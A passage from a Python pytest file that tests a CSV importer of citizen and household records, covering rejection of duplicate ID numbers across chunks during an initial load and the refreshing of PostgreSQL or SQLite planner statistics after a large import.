        assert types == [("integer", "integer", "integer", "integer", "integer", "integer", "integer", "text",
                          "null", "text")]


def test_initial_load_rejects_a_number_repeated_in_a_later_chunk(app_ctx, tmp_path) -> None:
    """An initial load writes each chunk without looking its numbers up; a repeat still gets its reason."""
    rows = [person(citizen_id=f"001090000{n:03d}", household_id=f"H{n}", relationship_to_head="head")
            for n in range(1, 6)]
    rows += [person(citizen_id="001090000002", full_name="Người Khác", household_id="H9", relationship_to_head="head"),
             person(citizen_id="001090000007")]
    result = run(write_csv(tmp_path / "people.csv", rows), tmp_path, chunk_size=3, initial_load=True)
    assert read_rejects(result.rejects_path) == {7: "citizen_id: the same ID number as line 3 of this file"}
    assert (result.imported, result.present, result.rejected) == (6, 0, 1)
    assert counts()["citizen"] == counts()["citizen_number"] == 6
    assert counts()["household"] == 5  # H9 came only with the rejected row
    assert service.get_citizen_by_number("001090000002").full_name == "Đỗ Văn Khoa"


@pytest.mark.parametrize("initial_load", [False, True])
def test_a_large_import_leaves_fresh_planner_statistics(app_ctx, tmp_path, monkeypatch, initial_load: bool) -> None:
    monkeypatch.setattr(importer, "ANALYZE_FROM", 5)  # the demo file's nine people count as a large load
    run(DEMO, tmp_path, initial_load=initial_load)
    s = db.session()
    if s.get_bind().dialect.name == "postgresql":
        analysed = s.scalar(text("SELECT last_analyze IS NOT NULL FROM pg_stat_user_tables WHERE relname = 'citizen'"))
    else:
        analysed = bool(s.scalar(text("SELECT count(*) FROM sqlite_stat1 WHERE tbl = 'citizen'")))
    assert analysed
